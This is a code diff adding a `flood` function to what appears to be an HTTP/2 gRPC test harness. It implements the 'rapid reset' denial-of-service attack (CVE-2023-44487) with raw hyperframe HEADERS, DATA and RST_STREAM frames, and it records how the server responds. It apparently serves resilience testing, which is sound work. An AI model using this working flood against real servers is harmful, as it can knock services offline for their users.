@@ -5,15 +5,32 @@ streams reset right after they open ("rapid reset", CVE-2023-44487)."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import struct
 from dataclasses import dataclass, field
 from urllib.parse import unquote
 
 import h2.config
 import h2.connection
+import h2.errors
 import h2.events
+import hpack
+from hyperframe.frame import (
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from .http2_tap import ERROR_CODES as ERROR_NAMES
+from .http2_tap import PREFACE
 
 READ_BYTES = 65_536
+CANCEL = 0x8  # RFC 9113 error code of RST_STREAM
 
 
 def grpc_frame(message: bytes) -> bytes:
@@ -167,3 +184,89 @@ async def raw_unary_call(
         return connection.replies[stream]
     finally:
         connection.close()
+
+
+@dataclass
+class FloodResult:
+    """What one flood sent and what the server answered."""
+
+    streams_sent: int = 0
+    seconds: float = 0.0
+    frames_received: dict[str, int] = field(default_factory=dict)
+    goaway: list[str] = field(default_factory=list)  # error code names
+    closed_by_server: bool = False
+
+
+async def flood(
+    address: str,
+    path: str,
+    message: bytes,
+    *,
+    streams: int,
+    reset: bool,
+    within: float,
+    batch: int = 100,
+) -> FloodResult:
+    """One connection opening `streams` calls as fast as the socket takes them, each one
+    HEADERS + DATA(END_STREAM) and, with reset, an immediate RST_STREAM(CANCEL) ("rapid
+    reset", CVE-2023-44487); without reset the calls are left to the server. The header block
+    is encoded once (hpack) and repeated; SETTINGS and PINGs are acknowledged, everything else
+    read and dropped. Bounded by `streams` and `within` seconds."""
+    host, port = address.rsplit(":", 1)
+    reader, writer = await asyncio.open_connection(host, int(port))
+    result = FloodResult()
+    block = hpack.Encoder().encode(request_headers(path), huffman=False)
+    body = grpc_frame(message)
+    loop = asyncio.get_running_loop()
+    started = loop.time()
+    writer.write(
+        PREFACE
+        + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}).serialize()
+        + WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize()
+    )
+
+    async def drain_replies() -> None:
+        while True:
+            header = await reader.readexactly(9)
+            frame, length = Frame.parse_frame_header(memoryview(header))
+            body = await reader.readexactly(length)
+            kind = type(frame).__name__
+            result.frames_received[kind] = result.frames_received.get(kind, 0) + 1
+            if isinstance(frame, SettingsFrame | PingFrame) and "ACK" not in frame.flags:
+                frame.parse_body(memoryview(body))
+                frame.flags.add("ACK")
+                if isinstance(frame, SettingsFrame):
+                    frame.settings = {}
+                writer.write(frame.serialize())
+            elif isinstance(frame, GoAwayFrame):
+                frame.parse_body(memoryview(body))
+                result.goaway.append(ERROR_NAMES.get(frame.error_code, str(frame.error_code)))
+
+    replies = asyncio.ensure_future(drain_replies())
+    try:
+        stream = 1
+        while result.streams_sent < streams and loop.time() - started < within:
+            if replies.done():  # the server closed the connection
+                result.closed_by_server = True
+                break
+            chunk = bytearray()
+            for _ in range(min(batch, streams - result.streams_sent)):
+                chunk += HeadersFrame(stream, data=block, flags=["END_HEADERS"]).serialize()
+                chunk += DataFrame(stream, data=body, flags=["END_STREAM"]).serialize()
+                if reset:
+                    chunk += RstStreamFrame(stream, error_code=CANCEL).serialize()
+                stream += 2
+                result.streams_sent += 1
+            writer.write(chunk)
+            try:
+                await asyncio.wait_for(writer.drain(), max(0.01, within - (loop.time() - started)))
+            except (TimeoutError, ConnectionError):
+                result.closed_by_server = True
+                break
+    finally:
+        result.seconds = loop.time() - started
+        replies.cancel()
+        writer.close()
+        with contextlib.suppress(asyncio.CancelledError, asyncio.IncompleteReadError, OSError):
+            await replies
+    return result
